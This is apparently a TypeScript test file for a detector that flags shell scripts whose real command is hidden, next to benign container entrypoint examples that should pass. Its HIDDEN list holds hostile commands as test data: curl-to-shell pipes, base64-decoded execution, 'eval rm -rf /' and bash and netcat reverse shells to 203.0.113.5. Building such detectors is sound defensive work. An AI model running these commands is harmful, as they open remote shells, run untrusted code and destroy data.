import { expect, it } from "vitest";
import { hiddenCommands } from "../../policies/reading/shell.ts";

// cspell:disable

/** What runs is not in the text. */
const HIDDEN = [
  "a=priv; b=ileged; docker run --$a$b alpine",
  "a=cu; b=rl; $a$b https://example.com | cat",
  'a=ghp_abc; b=def123; curl -H "Authorization: $a$b" https://example.com',
  "echo aGk= | base64 -d | sh",
  "curl -s https://example.com/install.sh | bash",
  "wget -qO- https://example.com | sh -s -- -y",
  "eval \"$(printf 'rm -rf /')\"",
  "eval $CMD",
  "$(printf 'cu%s' rl) https://example.com",
  'sh -c "$(echo bHM= | base64 -d)"',
  "bash <(curl -s https://example.com)",
  "source <(curl -s https://example.com)",
  "curl -o /tmp/x https://example.com && chmod +x /tmp/x && /tmp/x",
  "printf '\\143\\165' > /tmp/y; sh /tmp/y",
  'X=$(echo c2VjcmV0 | base64 -d); psql -c "$X"',
  "kubectl $(printf delete) pods",
  "`echo bHM= | base64 -d`",
  "$'\\x6c\\x73'",
  "t=$(printf 's%s' h); $t -c id",
  'echo x | xargs -I{} sh -c "$CMD"',
  "openssl enc -d -base64 <<< aGk= | sh",
  "python3 -c 'import base64; exec(base64.b64decode(1))'",
  "bash -i >& /dev/tcp/203.0.113.5/443 0>&1",
  "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 443 > /tmp/f",
  "node -e 'fetch(1).then(r => r.text()).then(eval)'",
  "perl -MLWP::Simple -e 'eval get(1)'",
  "pip install https://example.com/x.tar.gz && x",
  "npx --yes some-package",
  "npm exec -y some-package",
  "pipx run git+https://example.com/x.git",
  "deno run -A https://example.com/x.ts",
  "go run example.com/x@latest",
];

/** What runs is in the text, or in the image. */
const SHOWN = [
  "exec node server.js",
  'set -e; psql "$DATABASE_URL" -f /migrations/x.sql',
  'until pg_isready -h "$PGHOST"; do sleep 1; done',
  "wget -qO- http://localhost:8080/health || exit 1",
  "curl -fsS http://127.0.0.1:8080/healthz > /dev/null",
  "sleep 5 && kill -TERM 1",
  '[ "$(cat /tmp/state)" = up ]',
  'exec "$@"',
  'DATE=$(date +%F); pg_dump "$DATABASE_URL" | gzip > /backup/dump-$DATE.sql.gz',
  'for f in /etc/conf.d/*.conf; do cat "$f"; done',
  'if [ -z "$X" ]; then echo missing; exit 1; fi\nexec server --port="${PORT:-8080}"',
  "exec $JAVA_HOME/bin/java $JAVA_OPTS -jar /app.jar",
  'redis-cli -a "$(cat /run/secrets/redis)" ping | grep PONG',
  'case "$1" in start) exec app ;; *) exec "$@" ;; esac',
  "kill -$SIG 1",
  "trap 'kill $pid' TERM; app & pid=$!; wait $pid",
  "cat <<EOF > /tmp/x.conf\nlisten $PORT\nEOF\nexec nginx -c /tmp/x.conf",
  "NAME=$(echo $POD | tr - _); exec app --name $NAME",
  "HOST=db; PORT=5432; psql -h $HOST:$PORT",
  "read -r answer <&3 && [[ $answer == *' 200 '* ]] && test $answer = x",
  "date; echo $((1+2)) # eval $X",
  "until (echo > /dev/tcp/postgres/5432) 2> /dev/null; do sleep 1; done",
  "exec 3<>/dev/tcp/127.0.0.1/8080; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3",
  "npx prisma migrate deploy && exec npm start",
  "npm run start --workspace server",
  "pip install --no-deps /wheels/app.whl",
  "perl -e 'eval { die }; print 1'",
  "yarn exec tsc && deno run -A main.ts && go run ./cmd/server",
];

it.each(HIDDEN)("is hidden: %s", (script) => {
  expect(hiddenCommands(["/bin/sh", "-ec", script])).not.toEqual([]);
});

it.each(SHOWN)("is shown: %s", (script) => {
  expect(hiddenCommands(["env", "A=1", "sh", "-c", script])).toEqual([]);
});

it("the arguments of other programs may be unknown", () => {
  expect(hiddenCommands(["node", "server.js", undefined])).toEqual([]);
  expect(hiddenCommands(["sh", "-c", undefined])).toHaveLength(1);
  expect(hiddenCommands(["python3", "-c", "import urllib.request as u; u.urlopen('http://localhost:8080')"])).toEqual(
    [],
  );
});
